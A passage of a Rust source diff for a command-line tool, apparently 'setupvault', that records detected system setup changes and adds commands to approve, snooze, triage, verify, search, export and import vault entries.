+    let snoozed = vault.load_snoozed().context("failed to load snoozed changes")?;
+    match action {
+        SnoozedAction::List => {
+            for change in &snoozed {
+                println!(
+                    "{}\t{}\t{}\t{}",
+                    change.id, change.title, change.source, change.cmd
+                );
+            }
+        }
+        SnoozedAction::Clear => {
+            vault
+                .save_snoozed(&[])
+                .context("failed to clear snoozed changes")?;
+            if !quiet {
+                println!("Cleared {} snoozed change(s)", snoozed.len());
+            }
+        }
+        SnoozedAction::RestoreAll => {
+            let mut restored = 0;
+            for change in &snoozed {
+                if vault
+                    .unsnooze_item(change.id)
+                    .context("failed to restore snoozed changes")?
+                {
+                    restored += 1;
+                }
+            }
+            if !quiet {
+                println!("Restored {restored} snoozed change(s) to the inbox");
+            }
+        }
+    }
+    Ok(Outcome::Success)
 }
 
-fn slugify(input: &str) -> String {
-    let mut slug = String::new();
-    let mut last_dash = false;
-    for ch in input.chars() {
-        if ch.is_ascii_alphanumeric() {
-            slug.push(ch.to_ascii_lowercase());
-            last_dash = false;
-        } else if !last_dash {
-            slug.push('-');
-            last_dash = true;
+fn repair(vault: &FsVault, id: Option<&str>, quiet: bool) -> Result<Outcome> {
+    let ids = match id {
+        Some(id) => vec![Uuid::parse_str(id).context("invalid id")?],
+        None => vault
+            .list()
+            .context("failed to list entries; run `setupvault fsck` first")?
+            .into_iter()
+            .map(|entry| entry.id)
+            .collect(),
+    };
+    let mut repaired = 0;
+    for id in &ids {
+        match vault.repair_entry(*id).context("failed to repair entry")? {
+            Some(true) => repaired += 1,
+            Some(false) => {}
+            None => return Ok(not_found("entry", *id)),
         }
     }
-    slug.trim_matches('-').to_string()
+    if !quiet {
+        println!("Repaired {repaired} of {} entries", ids.len());
+    }
+    Ok(Outcome::Success)
 }
 
-fn diff_changes(previous: &[DetectedChange], current: &[DetectedChange]) -> Vec<DetectedChange> {
-    let previous_keys: std::collections::HashSet<_> = previous
-        .iter()
-        .map(|change| (change.source.clone(), change.title.clone()))
-        .collect();
-    current
-        .iter()
-        .filter(|change| !previous_keys.contains(&(change.source.clone(), change.title.clone())))
-        .cloned()
-        .collect()
+fn migrate(vault: &FsVault, quiet: bool) -> Result<Outcome> {
+    let report = vault.migrate_entries().context("failed to migrate entries")?;
+    for (path, err) in &report.skipped {
+        eprintln!("skipped {}: {err}", path.display());
+    }
+    if !quiet {
+        println!("Migrated {} of {} entries", report.migrated, report.entries_checked);
+    }
+    if !report.skipped.is_empty() {
+        return Err(anyhow!(
+            "{} entries could not be parsed; run `setupvault fsck` for details",
+            report.skipped.len()
+        ));
+    }
+    Ok(Outcome::Success)
 }
 
-fn append_unique(target: &mut Vec<DetectedChange>, incoming: Vec<DetectedChange>) {
-    let mut seen: std::collections::HashSet<_> = target
-        .iter()
-        .map(|change| (change.source.clone(), change.title.clone()))
-        .collect();
-    for change in incoming {
-        let key = (change.source.clone(), change.title.clone());
-        if seen.insert(key) {
-            target.push(change);
+fn migrate_layout(mut vault: FsVault, layout: VaultLayout, quiet: bool) -> Result<Outcome> {
+    let report = vault
+        .migrate_layout(layout)
+        .context("failed to move entries")?;
+    for (path, err) in &report.skipped {
+        eprintln!("skipped {}: {err}", path.display());
+    }
+    if !quiet {
+        println!(
+            "Moved {} of {} entries to the {} layout",
+            report.migrated,
+            report.entries_checked,
+            layout.as_str()
+        );
+    }
+    if !report.skipped.is_empty() {
+        return Err(anyhow!(
+            "{} entries could not be parsed and were left in place; see `setupvault fsck`",
+            report.skipped.len()
+        ));
+    }
+    Ok(Outcome::Success)
+}
+
+fn fsck(vault: &FsVault, fix: bool, strict: bool, quiet: bool) -> Result<Outcome> {
+    let verify = || {
+        if strict {
+            vault.verify_integrity_strict()
+        } else {
+            vault.verify_integrity()
         }
+        .context("failed to verify vault")
+    };
+    let mut report = verify()?;
+    if fix && !report.is_ok() {
+        for path in vault.quarantine(&report).context("failed to quarantine files")? {
+            if !quiet {
+                println!("quarantined {}", path.display());
+            }
+        }
+        report = verify()?;
+    }
+
+    for issue in &report.issues {
+        println!("{issue}");
+    }
+    if !report.is_ok() {
+        return Err(anyhow!(
+            "found {} integrity issue(s) in {} entries",
+            report.issues.len(),
+            report.entries_checked
+        ));
     }
+    if !quiet {
+        println!("Checked {} entries: no issues found", report.entries_checked);
+    }
+    Ok(Outcome::Success)
 }
 
-fn group_by_source(
-    changes: &[DetectedChange],
-) -> std::collections::BTreeMap<String, Vec<DetectedChange>> {
-    let mut map = std::collections::BTreeMap::new();
-    for change in changes {
-        map.entry(change.source.clone())
-            .or_insert_with(Vec::new)
-            .push(change.clone());
+fn list_detectors(vault: &FsVault, config: &VaultConfig, json: bool) -> Result<Outcome> {
+    // Names such as `applications` are shared across OSes; report each name once,
+    // preferring the variant that is available here.
+    let mut detectors: Vec<Arc<dyn Detector + Send + Sync>> = Vec::new();
+    let detectors_config = config.detector_config();
+    for detector in all_configured_detectors(&detectors_config)
+        .into_iter()
+        .chain(custom_detectors(&config.custom_detectors))
+    {
+        match detectors.iter().position(|known| known.name() == detector.name()) {
+            Some(index) if !detectors[index].is_available() && detector.is_available() => {
+                detectors[index] = detector;
+            }
+            Some(_) => {}
+            None => detectors.push(detector),
+        }
     }
-    map
+
+    let mut rows = Vec::new();
+    for detector in &detectors {
+        let count = vault
+            .load_detector_snapshot(detector.source())
+            .context("failed to load detector snapshot")?
+            .len();
+        rows.push((detector.name(), detector.is_available(), count));
+    }
+
+    if json {
+        let value: Vec<_> = rows
+            .iter()
+            .map(|(name, available, count)| {
+                serde_json::json!({
+                    "name": name,
+                    "available": available,
+                    "last_count": count,
+                })
+            })
+            .collect();
+        println!(
+            "{}",
+            serde_json::to_string_pretty(&value).context("failed to serialize detectors")?
+        );
+    } else {
+        for (name, available, count) in rows {
+            let status = if available { "available" } else { "unavailable" };
+            println!("{name}\t{status}\t{count}");
+        }
+    }
+    Ok(Outcome::Success)
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use clap::CommandFactory;
+fn filter_detectors(
+    detectors: Vec<Arc<dyn Detector + Send + Sync>>,
+    sources: &[String],
+) -> Result<Vec<Arc<dyn Detector + Send + Sync>>> {
+    if sources.is_empty() {
+        return Ok(detectors);
+    }
+    let mut valid: Vec<&str> = detectors.iter().map(|detector| detector.name()).collect();
+    valid.sort_unstable();
+    valid.dedup();
+    let unknown: Vec<&str> = sources
+        .iter()
+        .map(String::as_str)
+        .filter(|source| !valid.contains(source))
+        .collect();
+    if !unknown.is_empty() {
+        return Err(anyhow!(
+            "unknown detector source(s): {}; valid names: {}",
+            unknown.join(", "),
+            valid.join(", ")
+        ));
+    }
+    Ok(detectors
+        .into_iter()
+        .filter(|detector| sources.iter().any(|source| source == detector.name()))
+        .collect())
+}
 
-    #[test]
-    fn cli_help_snapshot() {
-        let mut cmd = Cli::command();
-        let mut buffer = Vec::new();
-        cmd.write_long_help(&mut buffer).expect("help output");
-        let help = String::from_utf8(buffer).expect("utf8 help");
-        insta::assert_snapshot!(help);
+fn approve(
+    vault: &FsVault,
+    config: &VaultConfig,
+    id: &str,
+    rationale: RationaleSource,
+    tags: Vec<String>,
+    verification: Option<String>,
+    uninstall_cmd: Option<String>,
+) -> Result<Outcome> {
+    let id = Uuid::parse_str(id).context("invalid id")?;
+    let inbox = vault.load_inbox().context("failed to load inbox")?;
+    let Some(change) = inbox.into_iter().find(|change| change.id == id) else {
+        return Ok(not_found("change", id));
+    };
+
+    if let Some(path) = change.path.as_ref() {
+        if let Some(warning) = sv_utils::inspect_change_path(path) {
+            eprintln!("warning: {warning}: {path}");
+        }
+    }
+
+    let derived_uninstall = derive_uninstall_cmd(&change.cmd);
+    let rationale = rationale.resolve(&change.title, config)?;
+    let mut entry = Entry::new(
+        Uuid::new_v4(),
+        change.title,
+        change.entry_type,
+        change.source,
+        change.cmd,
+        change.system,
+        change.detected_at,
+        EntryStatus::Active,
+        parse_tags(tags, &config.tag_aliases)?,
+        rationale,
+        verification,
+    )?;
+    entry.uninstall_cmd = uninstall_cmd
+        .or(derived_uninstall)
+        .filter(|value| !value.trim().is_empty());
+    entry.detector = change.detector;
+
+    vault.create(&entry).context("failed to write entry")?;
+    vault.remove_inbox_item(id).context("failed to update inbox")?;
+    Ok(Outcome::Success)
+}
+
+/// Inbox items selected by a single id, several ids, or a `--query`.
+///
+/// `--query` uses [`DetectedChange::matches`], the predicate behind the TUI's snooze by
+/// query, so both select the same items: the title or source contains the text, and so
+/// does a command or tag.
+enum InboxTarget {
+    Id(Uuid),
+    Ids(Vec<String>),
+    /// The inbox split once into the matching changes and the rest, in stored order.
+    Matches {
+        matched: Vec<DetectedChange>,
+        rest: Vec<DetectedChange>,
+    },
+}
+
+fn inbox_target(vault: &FsVault, ids: Vec<String>, query: Option<String>) -> Result<InboxTarget> {
+    match (ids.as_slice(), query) {
+        ([_, ..], Some(_)) => Err(anyhow!("pass either ids or --query, not both")),
+        ([], None) => Err(anyhow!("an id or --query is required")),
+        ([id], None) => Ok(InboxTarget::Id(Uuid::parse_str(id).context("invalid id")?)),
+        (_, None) => Ok(InboxTarget::Ids(ids)),
+        ([], Some(query)) => {
+            if query.trim().is_empty() {
+                return Err(anyhow!("--query must not be empty"));
+            }
+            let inbox = vault.load_inbox().context("failed to load inbox")?;
+            let (matched, rest) =
+                inbox.into_iter().partition(|change| change.matches(&query));
+            Ok(InboxTarget::Matches { matched, rest })
+        }
+    }
+}
+
+/// Parse ids piped to `approve --stdin`: newline-separated, or a JSON array of ids or of
+/// objects with an `id` field.
+fn read_ids(mut reader: impl std::io::Read) -> Result<Vec<String>> {
+    let mut input = String::new();
+    reader.read_to_string(&mut input).context("failed to read stdin")?;
+    if !input.trim_start().starts_with('[') {
+        return Ok(input
+            .lines()
+            .map(str::trim)
+            .filter(|line| !line.is_empty())
+            .map(str::to_string)
+            .collect());
+    }
+    let values: Vec<serde_json::Value> =
+        serde_json::from_str(&input).context("invalid JSON id list")?;
+    values
+        .iter()
+        .map(|value| {
+            value
+                .as_str()
+                .or_else(|| value.get("id").and_then(serde_json::Value::as_str))
+                .map(str::to_string)
+                .ok_or_else(|| anyhow!("expected an id string or an object with `id`, got {value}"))
+        })
+        .collect()
+}
+
+/// Print a `rationale_quality_warnings` nudge after approving `approved` entries; never fails.
+fn warn_weak_rationale(rationale: &RationaleSource, approved: usize, config: &VaultConfig) {
+    if let Some(warning) = rationale.quality_warning(approved, config) {
+        eprintln!(
+            "warning: {warning}; a specific rationale per entry keeps the vault useful \
+             (`setupvault list --weak-rationale` finds these later)"
+        );
+    }
+}
+
+/// Approve each id with the shared options, continuing past failures.
+#[allow(clippy::too_many_arguments)]
+fn approve_many(
+    vault: &FsVault,
+    config: &VaultConfig,
+    ids: &[String],
+    rationale: RationaleSource,
+    tags: Vec<String>,
+    verification: Option<String>,
+    uninstall_cmd: Option<String>,
+    quiet: bool,
+) -> Result<Outcome> {
+    let mut approved = 0;
+    let result = for_each_id(ids, "approve", "approved", quiet, |id| {
+        let outcome = approve(
+            vault,
+            config,
+            id,
+            rationale.clone(),
+            tags.clone(),
+            verification.clone(),
+            uninstall_cmd.clone(),
+        )?;
+        if outcome == Outcome::Success {
+            approved += 1;
+        }
+        Ok(outcome)
+    });
+    warn_weak_rationale(&rationale, approved, config);
+    result
+}
+
+/// Apply `action` to each id in turn, continuing past failures.
+///
+/// Prints one line per id (successes unless `quiet`, failures always) and a summary, and
+/// errors when any id failed so scripts see a non-zero exit.
+fn for_each_id(
+    ids: &[String],
+    verb: &str,
+    past: &str,
+    quiet: bool,
+    mut action: impl FnMut(&str) -> Result<Outcome>,
+) -> Result<Outcome> {
+    let mut failed = 0;
+    for id in ids {
+        match action(id) {
+            Ok(Outcome::Success) => {
+                if !quiet {
+                    println!("{past} {id}");
+                }
+            }
+            // Other outcomes have already reported themselves, such as `not_found`.
+            Ok(_) => failed += 1,
+            Err(err) => {
+                eprintln!("failed to {verb} {id}: {err:#}");
+                failed += 1;
+            }
+        }
+    }
+    if failed > 0 {
+        return Err(anyhow!("failed to {verb} {failed} of {} change(s)", ids.len()));
+    }
+    if !quiet {
+        println!("{} change(s) {past}", ids.len());
+    }
+    Ok(Outcome::Success)
+}
+
+fn triage(vault: &FsVault, config: &VaultConfig) -> Result<Outcome> {
+    if !std::io::stdin().is_terminal() {
+        return Err(anyhow!(
+            "triage needs an interactive terminal; use `setupvault approve`, `snooze`, or \
+             `ignore` in scripts"
+        ));
+    }
+    triage_with(
+        vault,
+        config,
+        &mut std::io::stdin().lock(),
+        &mut std::io::stdout(),
+    )
+}
+
+/// Line-oriented inbox review: print each change and apply the decision typed for it.
+///
+/// Decisions are whole lines, so a letter only takes effect once Enter is pressed; an empty
+/// line moves on like `n`. End of input behaves like `q`, leaving the remaining changes in the
+/// inbox.
+fn triage_with(
+    vault: &FsVault,
+    config: &VaultConfig,
+    input: &mut impl std::io::BufRead,
+    out: &mut impl Write,
+) -> Result<Outcome> {
+    let inbox = vault.load_inbox().context("failed to load inbox")?;
+    if inbox.is_empty() {
+        writeln!(out, "Inbox is empty")?;
+        return Ok(Outcome::Success);
+    }
+
+    let read_answer = |input: &mut dyn std::io::BufRead, out: &mut dyn Write, prompt: &str| {
+        write!(out, "{prompt}")?;
+        out.flush()?;
+        let mut line = String::new();
+        let read = input.read_line(&mut line).context("failed to read input")?;
+        Ok::<_, anyhow::Error>((read > 0).then(|| line.trim().to_string()))
+    };
+
+    let (mut approved, mut snoozed, mut ignored) = (0, 0, 0);
+    'changes: for (index, change) in inbox.iter().enumerate() {
+        writeln!(out, "[{}/{}] {} ({})", index + 1, inbox.len(), change.title, change.source)?;
+        writeln!(out, "    {}", change.cmd)?;
+        loop {
+            let prompt = "[a]pprove [s]nooze [i]gnore [n]ext [q]uit, then Enter: ";
+            let Some(answer) = read_answer(input, out, prompt)? else {
+                break 'changes;
+            };
+            match answer.to_lowercase().as_str() {
+                "a" => {
+                    let prompt = "Rationale (or @template): ";
+                    let Some(text) = read_answer(input, out, prompt)? else {
+                        break 'changes;
+                    };
+                    let rationale = match text.strip_prefix('@') {
+                        Some(name) => RationaleSource::Template(name.trim().to_string()),
+                        None => RationaleSource::Text(text),
+                    };
+                    let id = change.id.to_string();
+                    let warning = rationale.quality_warning(1, config);
+                    match approve(vault, config, &id, rationale, Vec::new(), None, None) {
+                        Ok(Outcome::Success) => {
+                            if let Some(warning) = warning {
+                                writeln!(out, "warning: {warning}")?;
+                            }
+                            approved += 1;
+                            break;
+                        }
+                        Ok(_) => break,
+                        Err(err) => writeln!(out, "{err:#}")?,
+                    }
+                }
+                "s" => {
+                    vault.snooze_inbox_item(change.id).context("failed to snooze")?;
+                    snoozed += 1;
+                    break;
+                }
+                "i" => {
+                    vault.remove_inbox_item(change.id).context("failed to ignore")?;
+                    ignored += 1;
+                    break;
+                }
+                "n" | "" => break,
+                "q" => break 'changes,
+                _ => writeln!(out, "Unknown choice `{answer}`")?,
+            }
+        }
+    }
+    writeln!(out, "Approved {approved}, snoozed {snoozed}, ignored {ignored}")?;
+    Ok(Outcome::Success)
+}
+
+fn snooze(
+    vault: &FsVault,
+    ids: Vec<String>,
+    query: Option<String>,
+    quiet: bool,
+) -> Result<Outcome> {
+    let snooze_one = |id: Uuid| {
+        if !vault.snooze_inbox_item(id).context("failed to snooze")? {
+            return Ok(not_found("change", id));
+        }
+        Ok(Outcome::Success)
+    };
+    match inbox_target(vault, ids, query)? {
+        InboxTarget::Id(id) => snooze_one(id),
+        InboxTarget::Ids(ids) => for_each_id(&ids, "snooze", "snoozed", quiet, |id| {
+            snooze_one(Uuid::parse_str(id).context("invalid id")?)
+        }),
+        InboxTarget::Matches { matched, rest } => {
+            if !matched.is_empty() {
+                let mut snoozed = vault.load_snoozed().context("failed to load snoozed changes")?;
+                snoozed.extend(matched.iter().cloned());
+                vault.save_snoozed(&snoozed).context("failed to snooze")?;
+                vault.write_inbox(&rest).context("failed to save inbox")?;
+            }
+            if !quiet {
+                println!("Snoozed {} change(s)", matched.len());
+            }
+            Ok(Outcome::Success)
+        }
+    }
+}
+
+fn ignore(
+    vault: &FsVault,
+    ids: Vec<String>,
+    query: Option<String>,
+    quiet: bool,
+) -> Result<Outcome> {
+    let ignore_one = |id: Uuid| {
+        if !vault.remove_inbox_item(id).context("failed to ignore")? {
+            return Ok(not_found("change", id));
+        }
+        Ok(Outcome::Success)
+    };
+    match inbox_target(vault, ids, query)? {
+        InboxTarget::Id(id) => ignore_one(id),
+        InboxTarget::Ids(ids) => for_each_id(&ids, "ignore", "ignored", quiet, |id| {
+            ignore_one(Uuid::parse_str(id).context("invalid id")?)
+        }),
+        InboxTarget::Matches { matched, rest } => {
+            if !matched.is_empty() {
+                vault.write_inbox(&rest).context("failed to save inbox")?;
+            }
+            if !quiet {
+                println!("Ignored {} change(s)", matched.len());
+            }
+            Ok(Outcome::Success)
+        }
+    }
+}
+
+fn clear_inbox(vault: &FsVault, yes: bool, quiet: bool) -> Result<Outcome> {
+    let inbox = vault.load_inbox().context("failed to load inbox")?;
+    if inbox.is_empty() {
+        if !quiet {
+            println!("Inbox is already empty");
+        }
+        return Ok(Outcome::Success);
+    }
+    if !yes {
+        if !std::io::stdin().is_terminal() {
+            return Err(anyhow!(
+                "refusing to clear {} inbox item(s) without confirmation; rerun with --yes",
+                inbox.len()
+            ));
+        }
+        if !confirm(&format!("Remove all {} inbox item(s)?", inbox.len()))? {
+            eprintln!("Clear cancelled; the inbox is unchanged.");
+            return Ok(Outcome::Success);
+        }
+    }
+    vault.clear_inbox().context("failed to clear inbox")?;
+    if !quiet {
+        println!("Cleared {} inbox item(s)", inbox.len());
+    }
+    Ok(Outcome::Success)
+}
+
+fn unsnooze(vault: &FsVault, ids: &[String], quiet: bool) -> Result<Outcome> {
+    let unsnooze_one = |id: &str| {
+        let id = Uuid::parse_str(id).context("invalid id")?;
+        if !vault.unsnooze_item(id).context("failed to unsnooze")? {
+            return Ok(not_found("snoozed change", id));
+        }
+        Ok(Outcome::Success)
+    };
+    match ids {
+        [id] => unsnooze_one(id),
+        _ => for_each_id(ids, "unsnooze", "unsnoozed", quiet, unsnooze_one),
+    }
+}
+
+fn list_entries(
+    vault: &FsVault,
+    filter: &EntryFilter,
+    fail_if_empty: bool,
+    output: ListOutput,
+) -> Result<Outcome> {
+    let entries = filtered_entries(vault, filter)?;
+    match output {
+        ListOutput::Count { json } => println!("{}", count_line(entries.len(), json)),
+        ListOutput::Rows => {
+            for entry in &entries {
+                println!("{}\t{}\t{}", entry.id, entry.title, entry.source);
+            }
+        }
+        ListOutput::Porcelain => {
+            for entry in &entries {
+                println!(
+                    "{}",
+                    porcelain_line(&[
+                        ("id", &entry.id.to_string()),
+                        ("title", &entry.title),
+                        ("source", &entry.source),
+                        ("type", entry.entry_type.as_str()),
+                        ("cmd", &entry.cmd),
+                    ])
+                );
+            }
+        }
+    }
+    if entries.is_empty() {
+        return Ok(empty_outcome(fail_if_empty));
+    }
+    Ok(Outcome::Success)
+}
+
+/// Filters and ordering accepted by `list` and `replay`; unset fields match every entry.
+#[derive(Default)]
+struct EntryFilter {
+    host: Option<String>,
+    source: Option<String>,
+    entry_type: Option<EntryType>,
+    stale: Option<chrono::Duration>,
+    /// Order by last access, most recent first.
+    recent: bool,
+    /// Keep entries whose rationale is short or reused across the vault.
+    weak_rationale: bool,
+}
+
+fn filtered_entries(vault: &FsVault, filter: &EntryFilter) -> Result<Vec<Entry>> {
+    let now = Utc::now();
+    let mut entries = vault.list().context("failed to list entries")?;
+    if filter.weak_rationale {
+        // Reuse is counted over the whole vault, before the other filters narrow it.
+        let rationales: Vec<_> = entries.iter().map(|entry| entry.rationale.as_str()).collect();
+        let mut warnings = sv_utils::rationale_warnings(&rationales).into_iter();
+        entries.retain(|_| warnings.next().flatten().is_some());
+    }
+    let mut entries: Vec<Entry> = entries
+        .into_iter()
+        .filter(|entry| filter.host.as_deref().is_none_or(|host| matches_host(entry, host)))
+        .filter(|entry| filter.source.as_deref().is_none_or(|source| entry.source == source))
+        .filter(|entry| {
+            filter
+                .entry_type
+                .as_ref()
+                .is_none_or(|entry_type| entry.entry_type == *entry_type)
+        })
+        .filter(|entry| {
+            filter.stale.is_none_or(|window| {
+                entry
+                    .last_verified
+                    .is_none_or(|verified| now.signed_duration_since(verified) > window)
+            })
+        })
+        .collect();
+    if filter.recent {
+        let times = vault.load_access_times().context("failed to load access log")?;
+        // `None` sorts below every time, so reversing puts never-used entries last.
+        entries.sort_by_key(|entry| std::cmp::Reverse(times.get(&entry.id).copied()));
+    }
+    Ok(entries)
+}
+
+fn matches_host(entry: &Entry, host: &str) -> bool {
+    entry
+        .system
+        .hostname
+        .as_deref()
+        .is_some_and(|name| name.eq_ignore_ascii_case(host))
+}
+
+/// Which entry `show` prints, in the vault's detection order.
+#[derive(Clone, Copy)]
+enum ShowStep {
+    At,
+    Next,
+    Prev,
+    First,
+    Last,
+}
+
+impl ShowStep {
+    fn from_flags(next: bool, prev: bool, first: bool, last: bool) -> Self {
+        match (next, prev, first, last) {
+            (true, ..) => Self::Next,
+            (_, true, ..) => Self::Prev,
+            (.., true, _) => Self::First,
+            (.., true) => Self::Last,
+            _ => Self::At,
+        }
+    }
+}
+
+fn show_entry(
+    vault: &FsVault,
+    id: Option<&str>,
+    step: ShowStep,
+    format: ShowFormat,
+) -> Result<Outcome> {
+    let id = id.map(|id| Uuid::parse_str(id).context("invalid id")).transpose()?;
+    let entry = if let (ShowStep::At, Some(id)) = (step, id) {
+        let Some(entry) = vault.get(id).context("failed to get entry")? else {
+            return Ok(not_found("entry", id));
+        };
+        entry
+    } else {
+        // `list` returns entries by detection time, then id.
+        let entries = vault.list().context("failed to list entries")?;
+        let position = match id {
+            Some(id) => match entries.iter().position(|entry| entry.id == id) {
+                Some(position) => Some(position),
+                None => return Ok(not_found("entry", id)),
+            },
+            None => None,
+        };
+        let Some(entry) = step_entry(&entries, position, step).cloned() else {
+            match (step, id) {
+                (ShowStep::Next, Some(id)) => eprintln!("no entry after {id}"),
+                (ShowStep::Prev, Some(id)) => eprintln!("no entry before {id}"),
+                _ => eprintln!("the vault has no entries"),
+            }
+            return Ok(Outcome::Empty);
+        };
+        entry
+    };
+    note_access(vault, entry.id);
+    let output = match format {
+        ShowFormat::Markdown => render_entry_markdown(&entry).context("failed to render entry")?,
+        ShowFormat::Plain => render_entry_plain(&entry),
+        ShowFormat::Json => {
+            serde_json::to_string_pretty(&entry).context("failed to serialize entry")?
+        }
+    };
+    println!("{output}");
+    Ok(Outcome::Success)
+}
+
+/// The entry `step` lands on from `entries[position]`, or from the ends without a position.
+fn step_entry(entries: &[Entry], position: Option<usize>, step: ShowStep) -> Option<&Entry> {
+    match (step, position) {
+        (ShowStep::Next, Some(position)) => entries.get(position + 1),
+        (ShowStep::Prev, Some(position)) => position.checked_sub(1).map(|prev| &entries[prev]),
+        (ShowStep::At, Some(position)) => entries.get(position),
+        (ShowStep::Last, _) => entries.last(),
+        _ => entries.first(),
+    }
+}
+
+/// Human-oriented summary of an entry: key fields, then indented text sections.
+fn render_entry_plain(entry: &Entry) -> String {
+    let mut lines = vec![
+        entry.title.clone(),
+        format!("Type:    {}", entry.entry_type.as_str()),
+        format!("Source:  {}", entry.source),
+        format!("Command: {}", entry.cmd),
+    ];
+    if !entry.tags.is_empty() {
+        let tags: Vec<&str> = entry.tags.iter().map(Tag::as_str).collect();
+        lines.push(format!("Tags:    {}", tags.join(", ")));
+    }
+    if let Some(uninstall) = &entry.uninstall_cmd {
+        lines.push(format!("Remove:  {uninstall}"));
+    }
+    if entry.pinned {
+        lines.push("Pinned:  yes".into());
+    }
+    if !entry.rationale_history.is_empty() {
+        let count = entry.rationale_history.len();
+        lines.push(format!("History: {count} earlier rationale(s)"));
+    }
+
+    let sections = [
+        ("Rationale", Some(entry.rationale.as_str())),
+        ("Verification", entry.verification.as_deref()),
+        ("Notes", entry.notes.as_deref()),
+        ("Script", entry.script_body.as_deref()),
+    ];
+    for (heading, text) in sections {
+        if let Some(text) = text.filter(|text| !text.trim().is_empty()) {
+            lines.push(String::new());
+            lines.push(format!("{heading}:"));
+            lines.extend(text.lines().map(|line| format!("  {line}").trim_end().to_string()));
+        }
+    }
+    lines.join("\n")
+}
+
+#[allow(clippy::too_many_arguments)]
+fn edit_entry(
+    vault: &FsVault,
+    config: &VaultConfig,
+    id: &str,
+    title: Option<String>,
+    cmd: Option<String>,
+    rationale: Option<String>,
+    add_tags: Vec<String>,
+    remove_tags: Vec<String>,
+    verification: Option<String>,
+    uninstall_cmd: Option<String>,
+    notes: Option<String>,
+) -> Result<Outcome> {
+    let id = Uuid::parse_str(id).context("invalid id")?;
+    if title.is_none()
+        && cmd.is_none()
+        && rationale.is_none()
+        && add_tags.is_empty()
+        && remove_tags.is_empty()
+        && verification.is_none()
+        && uninstall_cmd.is_none()
+        && notes.is_none()
+    {
+        return Err(anyhow!("nothing to edit; pass at least one field option"));
+    }
+    let Some(mut entry) = vault.get(id).context("failed to get entry")? else {
+        return Ok(not_found("entry", id));
+    };
+
+    if let Some(title) = title {
+        if title.trim().is_empty() {
+            return Err(anyhow!("title cannot be empty"));
+        }
+        entry.title = title;
+    }
+    if let Some(cmd) = cmd {
+        if cmd.trim().is_empty() {
+            return Err(anyhow!("cmd cannot be empty"));
+        }
+        entry.cmd = cmd;
+    }
+    if let Some(rationale) = rationale {
+        let rationale = Rationale::new(rationale).map_err(|err| anyhow!(err.to_string()))?;
+        entry.revise_rationale(rationale, Utc::now());
+    }
+    let canonical_removals = parse_tags(remove_tags.clone(), &config.tag_aliases)?;
+    entry.tags.retain(|tag| {
+        !canonical_removals.contains(tag)
+            && !remove_tags.iter().any(|remove| remove == tag.as_str())
+    });
+    for tag in parse_tags(add_tags, &config.tag_aliases)? {
+        if !entry.tags.contains(&tag) {
+            entry.tags.push(tag);
+        }
+    }
+    if let Some(verification) = verification {
+        entry.verification = Some(verification).filter(|value| !value.trim().is_empty());
+    }
+    if let Some(uninstall_cmd) = uninstall_cmd {
+        entry.uninstall_cmd = Some(uninstall_cmd).filter(|value| !value.trim().is_empty());
+    }
+    if let Some(notes) = notes {
+        entry.notes = Some(notes.trim_end().to_string()).filter(|value| !value.trim().is_empty());
+    }
+
+    vault.update(&entry).context("failed to update entry")?;
+    println!("{}", entry.id);
+    Ok(Outcome::Success)
+}
+
+fn set_pinned(vault: &FsVault, id: &str, pinned: bool) -> Result<Outcome> {
+    let id = Uuid::parse_str(id).context("invalid id")?;
+    let Some(mut entry) = vault.get(id).context("failed to get entry")? else {
+        return Ok(not_found("entry", id));
+    };
+    if entry.pinned != pinned {
+        entry.pinned = pinned;
+        vault.update(&entry).context("failed to update entry")?;
+    }
+    Ok(Outcome::Success)
+}
+
+fn search_entries(
+    vault: &FsVault,
+    query: &str,
+    limit: Option<usize>,
+    json: bool,
+) -> Result<Outcome> {
+    let matches = ranked_matches(vault, query, limit)?;
+    if json {
+        let value: Vec<_> = matches
+            .iter()
+            .map(|(entry, score)| {
+                serde_json::json!({
+                    "id": entry.id,
+                    "title": entry.title,
+                    "source": entry.source,
+                    "score": score,
+                })
+            })
+            .collect();
+        println!(
+            "{}",
+            serde_json::to_string_pretty(&value).context("failed to serialize matches")?
+        );
+    } else {
+        for (entry, _) in &matches {
+            println!("{}\t{}\t{}", entry.id, entry.title, entry.source);
+        }
+    }
+    Ok(Outcome::Success)
+}
+
+/// Entries matching `query` with their [`Entry::match_score`], highest first and capped at
+/// `limit`; equal scores keep the vault's detection order.
+fn ranked_matches(vault: &FsVault, query: &str, limit: Option<usize>) -> Result<Vec<(Entry, u32)>> {
+    let entries = vault.list().context("failed to list entries")?;
+    let mut matches: Vec<_> = entries
+        .into_iter()
+        .filter_map(|entry| entry.match_score(query).map(|score| (entry, score)))
+        .collect();
+    matches.sort_by(|(_, a), (_, b)| b.cmp(a));
+    matches.truncate(limit.unwrap_or(usize::MAX));
+    Ok(matches)
+}
+
+/// Export every entry as Markdown into `path`, returning how many files were written.
+///
+/// With `list_files`, each written path is printed to stdout; the summary goes to stderr so
+/// the listing stays pipeable. With `checksums`, each file gets a `.sha256` sidecar.
+fn export_entries(
+    vault: &FsVault,
+    path: &str,
+    checksums: bool,
+    list_files: bool,
+    quiet: bool,
+) -> Result<usize> {
+    let target = expand_path(path);
+    if !target.exists() {
+        std::fs::create_dir_all(&target).context("failed to create export directory")?;
+    }
+
+    let entries = vault.list().context("failed to list entries")?;
+    for entry in &entries {
+        let file_name = sanitize_export_filename(&entry.title, entry.id);
+        let dest = target.join(&file_name);
+        let content = render_entry_markdown(entry).context("failed to render entry")?;
+        std::fs::write(&dest, &content).context("failed to export entry")?;
+        if checksums {
+            let sidecar = render_checksum_sidecar(content.as_bytes(), &file_name);
+            std::fs::write(checksum_sidecar_path(&dest), sidecar)
+                .context("failed to write checksum")?;
+        }
+        if list_files {
+            println!("{}", dest.display());
+        }
+    }
+    if !quiet {
+        eprintln!("exported {} entries to {}", entries.len(), target.display());
+    }
+    Ok(entries.len())
+}
+
+/// Import every `*.md` entry file directly inside `path`.
+///
+/// Files that fail verification, fail to parse, or reuse an existing id are reported on
+/// stderr and skipped; the rest are still imported.
+fn import_entries(
+    vault: &FsVault,
+    config: &VaultConfig,
+    path: &str,
+    verify: bool,
+    quiet: bool,
+) -> Result<Outcome> {
+    let source = expand_path(path);
+    let mut files = Vec::new();
+    for item in std::fs::read_dir(&source)
+        .with_context(|| format!("failed to read {}", source.display()))?
+    {
+        let file = item.context("failed to read import directory")?.path();
+        if file.is_file() && file.extension().and_then(|ext| ext.to_str()) == Some("md") {
+            files.push(file);
+        }
+    }
+    files.sort();
+
+    let mut failed = 0;
+    for file in &files {
+        let result = import_entry_file(vault, config, file, verify);
